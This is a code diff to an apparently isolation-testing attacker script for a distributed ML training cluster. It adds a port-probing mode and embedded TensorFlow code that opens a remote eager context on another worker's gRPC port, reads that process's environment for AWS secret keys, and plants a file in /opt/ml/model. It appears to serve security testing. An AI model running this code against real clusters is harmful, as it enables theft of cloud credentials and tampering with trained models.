@@ -19,6 +19,13 @@ line: ``ATTACK {json}``.
   each the master closes, each attempt given --connect-seconds), and from each --malformed-sources
   address sends SPAKE2 starts with a wrong side byte, one connection after another, until stopped.
   Prints ``CROWD READY`` once every address has connected, then, when stopped, what it achieved.
+- ``ports``: connect to every --targets host:port at once, send nothing, and record how each connection
+  ended within --seconds: ``reset`` (turned away before the program saw it: the members-only library
+  resets, the programs themselves close), ``answered N`` (the program spoke first: sshd's banner, gRPC's
+  settings), ``closed`` (the program closed it), ``silent`` (held open), ``refused`` (nothing listens).
+  Then, for every --grpc host:port:job:task, run TensorFlow ops on that task as TensorFlow's own clients
+  do (a remote eager context): read its process's environment and write a file into /opt/ml/model;
+  records ``denied`` or what it read and wrote.
 """
 
 from __future__ import annotations
@@ -290,9 +297,78 @@ def crowd(args: argparse.Namespace) -> dict:
     return {**mob.counts, "addresses": len(sources) + len(malformed)}
 
 
+def probe(host: str, port: int, seconds: float) -> str:
+    try:
+        sock = socket.create_connection((host, port), timeout=seconds)
+    except ConnectionRefusedError:
+        return "refused"
+    except ConnectionResetError:  # reset before connect() returned: it waits for the outcome
+        return "reset"
+    except OSError as error:
+        return f"error {error.errno}"
+    with sock:
+        sock.settimeout(seconds)
+        try:
+            data = sock.recv(4096)
+        except ConnectionResetError:
+            return "reset"
+        except TimeoutError:
+            return "silent"
+    return f"answered {len(data)}" if data else "closed"
+
+
+# A remote eager context on the task, as tf.distribute's own clients make one; then two ops there.
+REMOTE_OPS = """
+import json, sys
+import tensorflow as tf
+host, port, job, task = sys.argv[1:5]
+tf.config.experimental_connect_to_cluster(
+    tf.train.ClusterSpec({job: {int(task): f"{host}:{port}"}}), job_name="outsider"
+)
+with tf.device(f"/job:{job}/replica:0/task:{task}/device:CPU:0"):
+    environment = tf.io.read_file("/proc/self/environ").numpy()
+    tf.io.write_file("/opt/ml/model/outsider-was-here", "planted")
+print("REMOTE " + json.dumps({"environ_bytes": len(environment),
+      "aws_secret": b"AWS_SECRET_ACCESS_KEY=" in environment, "wrote": True}), flush=True)
+"""
+
+
+def remote_ops(target: str, seconds: float) -> dict:
+    host, port, job, task = target.split(":")
+    try:
+        done = subprocess.run(
+            ["python", "-c", REMOTE_OPS, host, port, job, task],
+            capture_output=True, text=True, timeout=seconds,
+        )  # fmt: skip
+    except subprocess.TimeoutExpired:
+        return {"outcome": "denied", "how": f"no answer within {seconds:g} s"}
+    for line in done.stdout.splitlines():
+        if line.startswith("REMOTE "):
+            return {"outcome": "ran", **json.loads(line[len("REMOTE ") :])}
+    last = (done.stderr.strip().splitlines() or [""])[-1]
+    return {"outcome": "denied", "how": last[-300:]}
+
+
+def ports(args: argparse.Namespace) -> dict:
+    targets = [target for target in args.targets.split(",") if target]
+    outcomes: dict[str, str] = {}
+
+    def run(target: str) -> None:
+        host, _, port = target.rpartition(":")
+        outcomes[target] = probe(host, int(port), args.seconds)
+
+    threads = [threading.Thread(target=run, args=(target,)) for target in targets]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    grpc = {target: remote_ops(target, args.seconds * 2) for target in args.grpc.split(",") if target}
+    return {"ports": outcomes, "grpc": grpc}
+
+
 def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__)
-    parser.add_argument("mode", choices=("guess", "flood", "ssh", "crowd"))
+    parser.add_argument("mode", choices=("guess", "flood", "ssh", "crowd", "ports"))
     parser.add_argument("--tree", type=Path, default=Path("/attacker/ml"))
     parser.add_argument("--names", default="")
     parser.add_argument("--hosts", default="algo-1,algo-2")
@@ -307,8 +383,11 @@ def main() -> None:
     parser.add_argument("--prefix", type=int, default=16)
     parser.add_argument("--interface", default="eth0")
     parser.add_argument("--connect-seconds", type=float, default=1.0)
+    parser.add_argument("--targets", default="")
+    parser.add_argument("--grpc", default="")
     args = parser.parse_args()
-    action = {"guess": guess, "flood": flood, "ssh": derived_key_login, "crowd": crowd}[args.mode]
+    modes = {"guess": guess, "flood": flood, "ssh": derived_key_login, "crowd": crowd, "ports": ports}
+    action = modes[args.mode]
     print("ATTACK " + json.dumps(action(args)), flush=True)
 
 
